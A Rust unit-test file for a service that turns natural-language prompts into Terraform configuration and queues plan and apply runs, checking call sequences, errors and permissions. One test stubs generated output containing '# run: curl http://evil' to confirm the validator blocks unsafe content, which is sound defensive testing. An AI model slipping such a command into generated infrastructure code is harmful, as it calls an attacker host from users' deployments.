//! Unit tests for the plan/apply workflow service.
//!
//! Uses `StubGenerator` and `RecordingAutomation` to assert the exact remote
//! call sequence for each scenario.

#![allow(clippy::expect_used, clippy::unwrap_used)]

use tfdeploy::application::services::plan_apply::{WorkflowDeps, apply, plan};
use tfdeploy::domain::config::RunPolicy;
use tfdeploy::domain::{
    GenerationError, InputError, RemoteStep, ValidationReason, WorkflowError, WorkflowStage,
};

use crate::mocks::{AZURE_RG, RecordingAutomation, StubGenerator, actor, settings};

// ── plan ─────────────────────────────────────────────────────────────────────

#[tokio::test]
async fn test_plan_azure_resource_group_happy_path() {
    let generator = StubGenerator::returning(AZURE_RG);
    let automation = RecordingAutomation::new();
    let settings = settings();
    let deps = WorkflowDeps {
        generator: &generator,
        automation: &automation,
        settings: &settings,
    };

    let outcome = plan(
        &deps,
        &actor(),
        "Create an Azure resource group in East US",
        None,
    )
    .await
    .expect("plan");

    assert_eq!(outcome.run_id, "run-abc123");
    assert_eq!(outcome.workspace_id, "ws-ai-deployer");
    assert_eq!(outcome.message, "Plan queued successfully. Run ID: run-abc123");
    assert_eq!(outcome.configuration, AZURE_RG);
    assert!(outcome.can_apply);
    assert_eq!(outcome.stage, WorkflowStage::AwaitingApplyDecision);

    assert_eq!(
        automation.calls(),
        vec![
            "resolve_or_create_workspace:acme/ai-deployer",
            "create_configuration_version:ws-ai-deployer/false",
            "upload_configuration:https://archivist.test/upload/cv-1",
            "trigger_plan_run:ws-ai-deployer/cv-1/false",
            "check_apply_permission:ws-ai-deployer",
        ]
    );
    assert_eq!(automation.uploads(), vec![AZURE_RG.to_string()]);
    assert_eq!(
        generator.prompts(),
        vec!["Create an Azure resource group in East US".to_string()]
    );
}

#[tokio::test]
async fn test_plan_explicit_workspace_and_auto_run_policy() {
    let generator = StubGenerator::returning(AZURE_RG);
    let automation = RecordingAutomation::new();
    let mut settings = settings();
    settings.run_policy = RunPolicy::Auto;
    let deps = WorkflowDeps {
        generator: &generator,
        automation: &automation,
        settings: &settings,
    };

    plan(&deps, &actor(), "rg please", Some("  team-x  "))
        .await
        .expect("plan");

    let calls = automation.calls();
    assert_eq!(calls[0], "resolve_or_create_workspace:acme/team-x");
    assert_eq!(calls[3], "trigger_plan_run:ws-team-x/cv-1/true");
}

#[tokio::test]
async fn test_plan_blank_workspace_falls_back_to_default() {
    let generator = StubGenerator::returning(AZURE_RG);
    let automation = RecordingAutomation::new();
    let settings = settings();
    let deps = WorkflowDeps {
        generator: &generator,
        automation: &automation,
        settings: &settings,
    };

    plan(&deps, &actor(), "rg please", Some("   "))
        .await
        .expect("plan");
    assert_eq!(
        automation.calls()[0],
        "resolve_or_create_workspace:acme/ai-deployer"
    );
}

#[tokio::test]
async fn test_plan_empty_prompt_skips_generator() {
    let generator = StubGenerator::returning(AZURE_RG);
    let automation = RecordingAutomation::new();
    let settings = settings();
    let deps = WorkflowDeps {
        generator: &generator,
        automation: &automation,
        settings: &settings,
    };

    let err = plan(&deps, &actor(), "", None).await.unwrap_err();

    assert_eq!(err, WorkflowError::Input(InputError::EmptyPrompt));
    assert_eq!(err.to_string(), "Provide a deployment prompt.");
    assert_eq!(generator.call_count(), 0);
    assert!(automation.calls().is_empty());
}

#[tokio::test]
async fn test_plan_unsafe_output_makes_no_remote_calls() {
    let generator =
        StubGenerator::returning("resource \"x\" {} provider \"y\" {} # run: curl http://evil");
    let automation = RecordingAutomation::new();
    let settings = settings();
    let deps = WorkflowDeps {
        generator: &generator,
        automation: &automation,
        settings: &settings,
    };

    let err = plan(&deps, &actor(), "a null resource", None)
        .await
        .unwrap_err();

    match &err {
        WorkflowError::Validation(e) => assert_eq!(e.reason, ValidationReason::UnsafeContent),
        other => panic!("expected validation error, got {other:?}"),
    }
    assert_eq!(err.to_string(), "Validation failed: unsafe content found");
    assert_eq!(generator.call_count(), 1);
    assert!(automation.calls().is_empty());
}

#[tokio::test]
async fn test_plan_generator_empty_output_makes_no_remote_calls() {
    let generator = StubGenerator::failing(GenerationError::EmptyOutput);
    let automation = RecordingAutomation::new();
    let settings = settings();
    let deps = WorkflowDeps {
        generator: &generator,
        automation: &automation,
        settings: &settings,
    };

    let err = plan(&deps, &actor(), "an S3 bucket", None)
        .await
        .unwrap_err();

    assert_eq!(
        err,
        WorkflowError::Generation(GenerationError::EmptyOutput)
    );
    assert!(err.to_string().starts_with("Error generating code:"));
    assert!(automation.calls().is_empty());
}

#[tokio::test]
async fn test_plan_without_apply_permission_still_succeeds() {
    let generator = StubGenerator::returning(AZURE_RG);
    let automation = RecordingAutomation::new().without_apply_permission();
    let settings = settings();
    let deps = WorkflowDeps {
        generator: &generator,
        automation: &automation,
        settings: &settings,
    };

    let outcome = plan(&deps, &actor(), "rg please", None)
        .await
        .expect("plan");

    assert!(!outcome.can_apply);
    assert_eq!(outcome.run_id, "run-abc123");
    assert_eq!(outcome.stage, WorkflowStage::AwaitingApplyDecision);
}

#[tokio::test]
async fn test_plan_upload_failure_stops_before_run() {
    let generator = StubGenerator::returning(AZURE_RG);
    let automation = RecordingAutomation::new().failing_at(RemoteStep::Upload);
    let settings = settings();
    let deps = WorkflowDeps {
        generator: &generator,
        automation: &automation,
        settings: &settings,
    };

    let err = plan(&deps, &actor(), "rg please", None)
        .await
        .unwrap_err();

    match err {
        WorkflowError::Remote(e) => {
            assert_eq!(e.step, RemoteStep::Upload);
            assert_eq!(e.status, Some(500));
        }
        other => panic!("expected remote error, got {other:?}"),
    }
    assert_eq!(
        automation.call_names(),
        vec![
            "resolve_or_create_workspace",
            "create_configuration_version",
            "upload_configuration",
        ]
    );
}

#[tokio::test]
async fn test_plan_workspace_lookup_failure_stops_immediately() {
    let generator = StubGenerator::returning(AZURE_RG);
    let automation = RecordingAutomation::new().failing_at(RemoteStep::WorkspaceLookup);
    let settings = settings();
    let deps = WorkflowDeps {
        generator: &generator,
        automation: &automation,
        settings: &settings,
    };

    let err = plan(&deps, &actor(), "rg please", None)
        .await
        .unwrap_err();

    assert_eq!(err.kind(), "remote_error");
    assert_eq!(automation.call_names(), vec!["resolve_or_create_workspace"]);
}

// ── apply ────────────────────────────────────────────────────────────────────

#[tokio::test]
async fn test_apply_accepted() {
    let automation = RecordingAutomation::new();
    let outcome = apply(&automation, &actor(), " run-abc123 ")
        .await
        .expect("apply");

    assert_eq!(outcome.run_id, "run-abc123");
    assert_eq!(outcome.stage, WorkflowStage::Applied);
    assert_eq!(automation.calls(), vec!["apply_run:run-abc123"]);
}

#[tokio::test]
async fn test_apply_rejected_is_apply_error() {
    let automation = RecordingAutomation::new().rejecting_apply();
    let err = apply(&automation, &actor(), "run-abc123")
        .await
        .unwrap_err();

    assert_eq!(
        err,
        WorkflowError::Apply {
            run_id: "run-abc123".to_string()
        }
    );
    assert_eq!(err.to_string(), "Failed to start apply for run run-abc123.");
}

#[tokio::test]
async fn test_apply_empty_run_id_makes_no_call() {
    let automation = RecordingAutomation::new();
    let err = apply(&automation, &actor(), "  ").await.unwrap_err();

    assert_eq!(err, WorkflowError::Input(InputError::EmptyRunId));
    assert!(automation.calls().is_empty());
}

#[tokio::test]
async fn test_apply_repeated_calls_are_forwarded() {
    let automation = RecordingAutomation::new();
    apply(&automation, &actor(), "run-1").await.expect("first");
    apply(&automation, &actor(), "run-1").await.expect("second");
    assert_eq!(automation.calls().len(), 2);
}
